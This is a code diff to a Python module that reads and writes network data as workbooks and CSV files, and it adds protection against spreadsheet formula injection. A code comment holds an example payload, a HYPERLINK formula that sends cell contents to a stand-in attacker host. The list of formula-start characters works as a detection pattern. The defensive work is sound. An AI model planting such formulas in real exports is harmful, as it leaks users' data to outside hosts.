@@ -21,7 +21,32 @@ from ..tables.validation import RawTable
 from .text import read_text_table
 
 __all__ = ["read_workbook_raw", "read_csv_folder_raw", "read_csv_table_raw",
-           "write_workbook", "write_csv_folder", "write_template"]
+           "write_workbook", "write_csv_folder", "write_template", "formula_safe", "FORMULA_START"]
+
+#: A text cell that starts with one of these is a formula to a spreadsheet (Excel,
+#: LibreOffice, Google Sheets): ``=HYPERLINK("http://evil.example/?"&A1)`` from a
+#: person's name must never become one in an export.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def formula_safe(value):
+    """A text value as written to an exported CSV: a leading apostrophe before text that
+    a spreadsheet would read as a formula (and before text that starts with an
+    apostrophe, so that reading it back removes exactly one); other values unchanged.
+
+    >>> formula_safe("@SUM(A1)"), formula_safe("-3"), formula_safe(-3), formula_safe("Aino")
+    ("'@SUM(A1)", "'-3", -3, 'Aino')
+    """
+    if isinstance(value, str) and value.startswith((*FORMULA_START, "'")):
+        return "'" + value
+    return value
+
+
+def _unguard(value):
+    """Undo :func:`formula_safe` on a cell read from CSV."""
+    if isinstance(value, str) and len(value) > 1 and value[0] == "'" and value[1] in (*FORMULA_START, "'"):
+        return value[1:]
+    return value
 
 _EXPECTED = "actors/toimijat, organisations/organisaatiot, events/tapahtumat, participation/osallistumiset, ties/suhteet"
 CSV_SUFFIXES = (".csv", ".tsv", ".txt")
@@ -108,7 +133,8 @@ def read_csv_table_raw(path: Path, table: str, *, encoding: str | None = None,
     """One table from one CSV file."""
     name = str(path)
     text = read_text_table(path.read_bytes(), file=name, encoding=encoding, delimiter=delimiter)
-    raw = RawTable.from_records(table, text.header, text.records, text.rows, file=name,
+    records = [[_unguard(v) for v in record] for record in text.records]
+    raw = RawTable.from_records(table, text.header, records, text.rows, file=name,
                                 header_row=text.header_row)
     raw.left_out = {"blank_row": text.blank_rows} if text.blank_rows else {}
     return raw
@@ -160,6 +186,8 @@ def _display_frame(data: NetworkData, table: str, lang: str, labels: bool) -> pd
 
 def write_workbook(data: NetworkData, path, *, lang: str = "fi", labels: bool = True) -> Path:
     """Write ``data`` as the native workbook: a sheet per table, headers in ``lang``.
+    Every value is a value: text that starts like a formula (:data:`FORMULA_START`) is a
+    text cell shown with a quote prefix, never a live formula.
 
     With ``labels`` the allowed values are written as their names in ``lang``
     (``kolmas sektori``) rather than their codes (``third_sector``); both read back.
@@ -176,7 +204,9 @@ def write_workbook(data: NetworkData, path, *, lang: str = "fi", labels: bool = 
 
 
 def write_csv_folder(data: NetworkData, folder, *, lang: str = "en", labels: bool = False) -> Path:
-    """Write ``data`` as a folder of UTF-8 CSV files, one per table."""
+    """Write ``data`` as a folder of UTF-8 CSV files, one per table; text a spreadsheet
+    would read as a formula gets a leading apostrophe (:func:`formula_safe`), which
+    :func:`read_csv_table_raw` removes again."""
     folder = Path(folder)
     folder.mkdir(parents=True, exist_ok=True)
     for table in TABLE_ORDER:
@@ -184,6 +214,8 @@ def write_csv_folder(data: NetworkData, folder, *, lang: str = "en", labels: boo
         for col in frame.columns:
             if pd.api.types.is_datetime64_any_dtype(frame[col]):
                 frame[col] = frame[col].map(_iso)
+            elif frame[col].dtype == object:
+                frame[col] = frame[col].map(formula_safe)
         frame.to_csv(folder / f"{t(f'table.{table}', lang)}.csv", index=False, encoding="utf-8")
     return folder
 
@@ -203,6 +235,11 @@ def _tidy_sheet(ws) -> None:
     for cell in ws[1]:
         cell.font = Font(bold=True)
     ws.freeze_panes = "A2"
+    for row in ws.iter_rows():
+        for c in row:
+            if isinstance(c.value, str) and c.value.startswith(FORMULA_START):
+                c.data_type = "s"  # text, never a formula (openpyxl makes "=..." one)
+                c.quotePrefix = True  # and Excel keeps it text when the cell is edited
     for column_cells in ws.columns:
         width = max((len(str(c.value)) for c in column_cells if c.value is not None), default=8)
         ws.column_dimensions[column_cells[0].column_letter].width = min(max(width + 2, 10), 50)
